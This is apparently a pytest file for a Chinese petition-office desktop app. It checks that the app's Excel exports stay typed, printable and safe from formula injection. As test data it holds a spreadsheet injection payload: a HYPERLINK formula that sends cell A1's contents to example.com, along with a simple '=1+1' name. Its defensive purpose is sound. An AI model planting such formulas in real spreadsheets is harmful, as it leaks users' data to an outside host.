"""Every .xlsx export, made from hostile user text through its service, opened with openpyxl:
text stays text (never a formula), numbers and dates are typed, and the sheet is set up for
A4 printing (orientation, fit to width, print titles, unit in the header, page x of y).

The statistics, analysis and annual workbooks are checked by their own tests."""

from __future__ import annotations

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from xinfang_desktop.domain.cases import CaseDraft, PetitionerDraft
from xinfang_desktop.domain.people import PersonDraft
from xinfang_desktop.domain.screening import KIND_GRADE, GroupDraft
from xinfang_desktop.domain.settings import UnitSettings
from xinfang_desktop.domain.visits import VisitDraft
from xinfang_desktop.reports.case_ledger import write_case_ledger_xlsx
from xinfang_desktop.reports.rota_schedule import RotaSheet, RotaSheetRow, write_rota_xlsx
from xinfang_desktop.reports.visit_register import write_visit_register_xlsx
from xinfang_desktop.services import people_excel, screening
from xinfang_desktop.services.case_printing import ledger_document
from xinfang_desktop.services.cases import register_case
from xinfang_desktop.services.people import add_person
from xinfang_desktop.services.printing import visit_register_document
from xinfang_desktop.services.settings import save_unit_settings
from xinfang_desktop.services.visits import register_visit

UNIT = "邹坞镇中心小学"
NAME = "=1+1"
REQUEST = '=HYPERLINK("http://example.com/?"&A1,"点击查看")'
NOW = datetime(2026, 11, 23, 9, 0)


def _visit_register(database, actor, path):
    register_visit(
        database,
        actor,
        VisitDraft(arrived_at=datetime(2026, 11, 23, 8, 30), name=NAME, reason=REQUEST),
        now=NOW,
    )
    doc = visit_register_document(
        database, actor, date(2026, 11, 23), date(2026, 11, 23), purpose="export", printed_at=NOW
    )
    write_visit_register_xlsx(doc, path)
    return {"来访时间": "datetime", "人数": "number"}


def _case_ledger(database, actor, path):
    register_case(
        database,
        actor,
        CaseDraft(
            channel="来信",
            received_on=date(2026, 11, 20),
            petitioners=(PetitionerDraft(NAME),),
            request=REQUEST,
        ),
        now=NOW,
    )
    doc = ledger_document(database, actor, date(2026, 11, 1), date(2026, 11, 30), purpose="export")
    write_case_ledger_xlsx(doc, path)
    return {"登记日期": "datetime", "人数": "number", "序号": "number"}


def _rota(database, actor, path):
    sheet = RotaSheet(
        unit_name=UNIT,
        title="2026年11月值班表",
        period="2026年11月1日至2026年11月30日",
        columns=[("白班 08:00", "带班领导")],
        rows=[RotaSheetRow(date(2026, 11, 1), "星期日", "周末", True, [NAME])],
        phones=[("带班领导", NAME, "13800138000")],
        printed_at=NOW,
    )
    write_rota_xlsx(sheet, path)
    return {"日期": "datetime"}


def _people(database, actor, path):
    add_person(database, actor, PersonDraft(NAME, post="教师", remarks=REQUEST), now=NOW)
    people_excel.export_people(database, actor, path)
    return {}


def _groups(database, actor, path):
    screening.add_group(database, actor, GroupDraft(NAME, KIND_GRADE))
    people_excel.export_groups(database, actor, path)
    return {}


EXPORTS = {
    "visit_register": (_visit_register, "landscape"),
    "case_ledger": (_case_ledger, "landscape"),
    "rota": (_rota, "landscape"),
    "people": (_people, "portrait"),
    "groups": (_groups, "portrait"),
}


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_is_typed_guarded_and_printable(name, database, actor, tmp_path):
    save_unit_settings(database, actor, UnitSettings(unit_name=UNIT))
    make, orientation = EXPORTS[name]
    path = tmp_path / f"{name}.xlsx"
    typed = make(database, actor, path)
    book = load_workbook(path)
    hostile = []
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells), sheet.title
        hostile += [c for c in cells if isinstance(c.value, str) and c.value in (NAME, REQUEST)]
        assert int(sheet.page_setup.paperSize) == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.print_title_rows, sheet.title
        assert sheet.freeze_panes, sheet.title
        assert sheet.auto_filter.ref, sheet.title
        assert sheet.oddHeader.center.text == UNIT
        assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
    first = book.worksheets[0]
    assert first.page_setup.orientation == orientation
    # The petitioner named "=1+1" is that text, and marked so Excel keeps it text when edited.
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    header_row = int(first.print_title_rows.split(":")[0].strip("$"))
    headers = [cell.value for cell in first[header_row]]
    data = first[header_row + 1]
    for header, kind in typed.items():
        cell = data[headers.index(header)]
        if kind == "datetime":
            assert cell.is_date and isinstance(cell.value, datetime), header
        else:
            assert cell.data_type == "n" and isinstance(cell.value, int | float), header
